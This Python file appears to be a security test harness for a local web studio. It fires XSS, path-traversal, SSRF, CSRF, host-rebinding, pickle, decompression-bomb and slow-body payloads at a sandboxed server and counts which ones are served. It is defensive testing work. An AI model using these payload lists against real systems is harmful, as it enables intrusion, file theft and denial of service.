"""Requests of somebody who means harm. One is *served* when it gets what it wanted: a file from outside, a page for a
foreign host, a change without a form of ours, a command or a text of its own that runs.
"""

from __future__ import annotations

import re
import socket
import zlib
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path
from typing import Any

import httpx

from brandsmith.benchmark.create import Bar
from brandsmith.benchmark.studio_crowd import picture_bytes
from brandsmith.benchmark.studio_forms import forms_of
from brandsmith.benchmark.studio_live import Browser, LiveStudio, live_studio, pages_of

PATIENCE_SEC, MOST_PAGES = 60.0, 120
_NUMBER = re.compile(r"[0-9]+")
SECRET = "what lies outside the workspace"
Log = Callable[[str], None]
SCRIPTS = (
    "<script>document.title='x1'</script>",
    '"><img src=x onerror="document.title=1">',
    "'-alert(1)-'",
    "{{ 7 * 7 }}<svg onload=alert(1)>",
    "javascript:alert(1)//<a href='javascript:alert(1)'>",
    "</textarea><script src=//evil.example/x.js></script>",
)
"""Texts that run where they are not escaped."""
UNESCAPED = ("<script>document.title", "<img src=x", "<svg onload", "<script src=//evil", "<a href='javascript")
PATHS = (
    "../../secret.txt",
    "..%2f..%2fsecret.txt",
    "%2e%2e/%2e%2e/secret.txt",
    "..%5c..%5csecret.txt",
    "....//....//secret.txt",
    "/etc/passwd",
    "%2fetc%2fpasswd",
    "file:///etc/passwd",
    "link.png",
    "%00secret.txt",
    ".studio/key",
    "../.studio/key",
)
ROUTES = ("/pictures/creations/given/{}", "/files/creations/given/{}", "/pictures/{}", "/static/{}")
WRONG: tuple[Any, ...] = (
    None,
    [],
    7,
    "text",
    {"concept": ["demo"]},
    {"prompts": {"a": 1}},
    {"settings": "x"},
    {"x": "y"},
)
ORDERS = ("train", "sample", "judge", "doctor", "ad", "moodboard", "export", "study", "resume")
ADDRESSES = (
    "http://127.0.0.1:22/",
    "file:///etc/passwd",
    "someone/model",
    "https://evil.example/x.safetensors",
    "/etc",
)
CHANGES = ("/logout", "/api/v1/concepts", *(f"/api/v1/orders/{kind}" for kind in ORDERS))


@dataclass
class Attack:
    """What was tried, and what came of it."""

    requests: int = 0
    served: list[str] = field(default_factory=list)
    scripts: list[str] = field(default_factory=list)
    tracebacks: list[str] = field(default_factory=list)

    def note(self, what: str, answer: httpx.Response, *, served: bool | None = None) -> None:
        """served None: any answer that is not a refusal."""
        self.requests += 1
        text = answer.text
        if SECRET in text or "root:x:" in text or (answer.is_success if served is None else served):
            self.served.append(f"{what}: {answer.status_code}")
        if "Traceback" in text or answer.status_code >= 500:
            self.tracebacks.append(f"{what}: {answer.status_code} {text[:200]}")

    def note_raw(self, what: str, answer: bytes) -> None:
        """Refused with a status, or by a closed connection."""
        self.requests += 1
        if not answer.startswith((b"HTTP/1.1 4", b"HTTP/1.1 3")) and answer:
            self.served.append(f"{what}: {answer[:60]!r}")


def measure_hostile(folder: Path, log: Log, slow: int = 6) -> list[Bar]:
    attack = Attack()
    with live_studio(folder / "hostile") as studio:
        _plant(studio.folder)
        studio.start()
        with Browser(studio) as browser:
            browser.visit("/")
            for kind in (_traverse, _forge, _rebind, _confuse, _inject_addresses, _bomb, _flood_bodies, _script):
                log(f"{kind.__name__.strip('_')}, after {attack.requests} requests")
                kind(browser, attack)
            _dawdle(studio, attack, slow)
        printed = studio.log.read_text(encoding="utf-8", errors="replace")
    if "Traceback" in printed:
        attack.tracebacks.append(printed[printed.index("Traceback") :][:300])
    return [
        _bar("hostile_served", attack.served, attack.requests),
        _bar("hostile_tracebacks", attack.tracebacks, attack.requests),
        _bar("hostile_scripts", attack.scripts, attack.requests),
    ]


def _bar(name: str, found: list[str], requests: int) -> Bar:
    return Bar(name, len(found), "0", not found, requests, "; ".join(found[:3]))


def _plant(workspace: Path) -> None:
    """Something to steal, and a link that leads to it."""
    given = workspace / "creations" / "given"
    given.mkdir(parents=True)
    (given / "a.png").write_bytes(picture_bytes())
    for place in (workspace.parent / "secret.txt", workspace.parent / "secret.png"):
        place.write_text(SECRET, encoding="utf-8", newline="")
    (given / "link.png").symlink_to(workspace.parent / "secret.png")


def _traverse(browser: Browser, attack: Attack) -> None:
    for route in ROUTES:
        for path in PATHS:
            attack.note(f"GET {route.format(path)}", browser.get(route.format(path)))


def _forge(browser: Browser, attack: Attack) -> None:
    """Another site's form: no token, a token of its own, the right cookie with a foreign origin."""
    foreign = {"x-csrf-token": browser.token, "origin": "http://evil.example"}
    for path in CHANGES:
        attack.note(f"POST {path} without a token", browser.post(path, json={"prompts": ["x"]}))
        attack.note(f"POST {path} as text", browser.post(path, content=b"{}", headers={"content-type": "text/plain"}))
        named = browser.post(path, json={"prompts": ["x"]}, headers={"authorization": "Basic YTpi"})
        attack.note(f"POST {path} with a name in the address", named)
        attack.note(f"POST {path} from afar", browser.post(path, json={"prompts": ["x"]}, headers=foreign))


def _rebind(browser: Browser, attack: Attack) -> None:
    for host in ("evil.example", "localhost.evil.example", "127.0.0.1.nip.io:8700", "", "a" * 300):
        attack.note(f"host {host[:40]}", browser.get("/", headers={"host": host}))
    for token in ("x", "bs_" + "0" * 43, "' OR 1=1 --"):
        attack.note("a token of its own", browser.get("/api/v1/jobs", headers={"authorization": f"Bearer {token}"}))


def _confuse(browser: Browser, attack: Attack) -> None:
    """Bodies of other shapes than any page sends."""
    for kind in ORDERS:
        for body in WRONG:
            if kind in ("doctor", "train") and body == {}:
                continue
            attack.note(f"{kind} with {body!r}"[:80], browser.submit(f"/api/v1/orders/{kind}", json=body))
    for identity in ("../1", "999999999999", "-1", "1e9", "%00"):
        attack.note(f"job {identity}", browser.get(f"/api/v1/jobs/{identity}"))
    attack.note("a method", browser.request("TRACE", "/"))
    attack.note("deep JSON", browser.submit("/api/v1/orders/ad", content=b"[" * 50_000))


def _inject_addresses(browser: Browser, attack: Attack) -> None:
    """The server would have to fetch these, or read them."""
    for address in ADDRESSES:
        attack.note(f"base {address}", browser.order("train", {"base": address}))
        attack.note(f"concept {address}", browser.order("doctor", {"concept": address}))
    for option in ("--out", "--run", "--config=/etc/passwd"):
        attack.note(f"setting {option}", browser.order("train", {"settings": {option: "/etc"}}))


def _bomb(browser: Browser, attack: Attack) -> None:
    """Uploads that are no pictures, or far too much of one. Refused one by one: the request itself is answered."""
    given = {"name": "bombs", "config": {"token": "bomb_mark"}}
    concept = browser.submit("/api/v1/concepts", json=given).raise_for_status().json()["id"]
    for name, content in _bombs():
        answer = browser.submit(f"/api/v1/concepts/{concept}/pictures", files={"files": (name, content)})
        kept = answer.json().get("kept") if answer.is_success else None
        attack.note(f"upload {name!r}"[:80], answer, served=bool(kept))


def _bombs() -> Iterator[tuple[str, bytes]]:
    yield "huge.png", _png_of(40_000, 40_000)
    yield "wide.png", _png_of(2**31 - 1, 1)
    yield "zip.png", b"PK\x03\x04" + zlib.compress(bytes(1 << 20))
    yield "svg.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield "page.html", b"<html><script>alert(1)</script>"
    yield "run.safetensors", b"\x80\x04\x95cposix\nsystem\n"
    yield "ps.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file"
    yield "cut.png", picture_bytes()[:60]
    yield "../../../../tmp/x.png", b"GIF89a"
    yield "empty.png", b""
    yield "cat.gif", b"GIF89a" + bytes(2000)


def _png_of(width: int, height: int) -> bytes:
    """A PNG whose header promises more than its few bytes hold."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes((8, 2, 0, 0, 0))
    body = chunk(b"IDAT", zlib.compress(bytes(1 << 20), 9))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + body + chunk(b"IEND", b"")


def _flood_bodies(browser: Browser, attack: Attack) -> None:
    """Bodies far above the limit, with and without a true length."""
    for path in ("/logout", "/api/v1/orders/sample", "/api/v1/concepts"):
        attack.note(f"3 MB to {path}", _flooded(browser, path, b"x" * 3_000_000))
        attack.note(f"3 MB in pieces to {path}", _flooded(browser, path, (b"x" * 30_000 for _ in range(100))))
        head = f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: 99999999999\r\n\r\nx"
        attack.note_raw(f"a lie about the length to {path}", _raw_answer(browser.base_url.port or 80, head))


def _flooded(browser: Browser, path: str, content: bytes | Iterator[bytes]) -> httpx.Response:
    """A connection that the server closes before all has arrived is a refusal too."""
    try:
        return browser.submit(path, content=content)
    except httpx.TransportError:
        return httpx.Response(413)


def _script(browser: Browser, attack: Attack) -> None:
    """Texts that would run, in every text field; then every page is read again. Raises what httpx raises when
    they are not taken: then nothing would have been tried.
    """
    browser.visit("/")
    for script in SCRIPTS:
        fields: list[tuple[str, dict[str, Any]]] = [
            ("sample", {"prompts": [script], "name": script[:80]}),
            ("sample", {"prompts": ["x"], "draw": {"negative_prompt": script}}),
            ("moodboard", {"theme": script}),
            ("ad", {"brief": {"product": script, "headline": script, "legal": script}}),
        ]
        for kind, given in fields:
            attack.note(f"{kind} {script}", browser.order(kind, given).raise_for_status(), served=False)
        config = {"token": "mark", "class_word": script, "expected_text": script, "prompts": [f"{script} {{token}}"]}
        attack.note(  # a token and names of other signs are refused, which is as well
            f"concept {script}",
            browser.submit("/api/v1/concepts", json={"name": script, "config": config}),
            served=False,
        )
    _fill_forms(browser, attack)
    for path in pages_of(browser, MOST_PAGES):
        answer = browser.get(path)
        attack.requests += 1
        attack.scripts += [f"{path}: {text}" for text in UNESCAPED if _is_page(answer) and text in answer.text]
        policy = answer.headers.get("content-security-policy", "")
        if "default-src 'self'" not in policy or "unsafe" in policy:
            attack.scripts.append(f"{path}: policy {policy}")


def _fill_forms(browser: Browser, attack: Attack) -> None:
    """Every text field of every form: first without a token, then with such texts, a form once an address."""
    seen: set[str] = set()
    for path in pages_of(browser, MOST_PAGES):
        for form in forms_of(browser.visit(path).text, path):
            shape = _NUMBER.sub("#", form.action)
            if shape in seen or form.action in ("/login", "/logout"):
                continue
            seen.add(shape)
            stranger = httpx.post(f"{browser.base_url}{form.action}", data=form.fields | {"csrf": "0" * 64})
            attack.note(f"form {form.action} without a token", stranger)
            texts = {name: SCRIPTS[number % len(SCRIPTS)] for number, name in enumerate(form.texts)}
            sent = browser.submit(form.action, data=form.fields | texts | {"csrf": browser.token})
            attack.note(f"form {form.action}", sent, served=False)
            attack.scripts += [f"{form.action}: {text}" for text in UNESCAPED if _is_page(sent) and text in sent.text]


def _is_page(answer: httpx.Response) -> bool:
    return answer.headers.get("content-type", "").startswith("text/html")


def _dawdle(studio: LiveStudio, attack: Attack, number: int) -> None:
    """Bodies that never come: the server hangs up."""
    head = "POST /logout HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000\r\n\r\nx"
    with ThreadPoolExecutor(number) as pool:
        for answer in pool.map(partial(_raw_answer, studio.port), [head] * number):
            attack.note_raw("a slow body", answer)


def _raw_answer(port: int, text: str) -> bytes:
    """The start of the answer to what no client would send; "still waiting" when there is none."""
    with socket.create_connection(("127.0.0.1", port), timeout=PATIENCE_SEC) as opened:
        opened.sendall(text.encode())
        try:
            return opened.recv(200)
        except TimeoutError:
            return b"still waiting"
